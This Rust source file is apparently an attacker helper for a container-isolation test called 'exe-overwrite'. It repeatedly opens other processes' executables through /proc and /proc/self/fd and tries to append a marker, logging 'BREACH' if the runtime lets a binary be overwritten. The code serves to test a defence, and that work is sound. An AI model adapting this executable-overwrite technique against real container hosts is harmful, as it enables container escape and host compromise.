//! Runs in containers of the test `exe-overwrite`, built by it.
//!
//! `attacker FD`: FD is a program, open for reading; tries to open it for writing.
//! `attacker watch FILE`: does so with the program of every process it can see,
//! for ever, and writes down how it goes.

use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    match args[1].as_str() {
        "watch" => watch(&args[2]),
        fd => once(fd),
    }
}

fn once(fd: &str) {
    let path = format!("/proc/self/fd/{fd}");
    let mut last = String::new();
    // The program is busy as long as another process runs it.
    for _ in 0..20 {
        match overwrite(&path) {
            Ok(()) => {
                println!("BREACH: overwrote {:?}", fs::read_link(&path));
                return;
            }
            Err(e) => last = e.to_string(),
        }
    }
    println!("{last}");
}

/// Writes behind the end, so that a program that was hit still runs to tell.
fn overwrite(path: &str) -> std::io::Result<()> {
    OpenOptions::new().append(true).open(path)?.write_all(b"owned")
}

fn watch(report: &str) {
    // Its own programs, and their like in a neighbour's image, it may overwrite.
    let own = ["/attacker", "/bin/busybox"].map(|path| fs::metadata(path).unwrap().len());
    let mut held: Vec<File> = Vec::new();
    let mut refusals: BTreeMap<String, u64> = BTreeMap::new();
    let mut opened = 0_u64;
    for round in 0_u64.. {
        for entry in fs::read_dir("/proc").unwrap().flatten() {
            let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
                continue;
            };
            let path = format!("/proc/{pid}/exe");
            match File::open(&path) {
                Ok(file) if own.contains(&file.metadata().unwrap().len()) => continue,
                Ok(file) => {
                    opened += 1;
                    held.push(file);
                }
                Err(e) => *refusals.entry(e.to_string()).or_default() += 1,
            }
            attempt(&path, &mut refusals, report);
        }
        if held.len() > 16 {
            held.drain(..8);
        }
        for file in &held {
            attempt(&format!("/proc/self/fd/{}", file.as_raw_fd()), &mut refusals, report);
        }
        if round % 64 == 0 {
            tell(report, &format!("tried, opened {opened}, refused {refusals:?}"));
        }
    }
}

fn attempt(path: &str, refusals: &mut BTreeMap<String, u64>, report: &str) {
    match overwrite(path) {
        Ok(()) => {
            tell(report, &format!("BREACH: overwrote {path}"));
            std::process::exit(0);
        }
        Err(e) => *refusals.entry(e.to_string()).or_default() += 1,
    }
}

fn tell(report: &str, text: &str) {
    let aside = format!("{report}.new");
    fs::write(&aside, text).unwrap();
    fs::rename(&aside, report).unwrap();
}

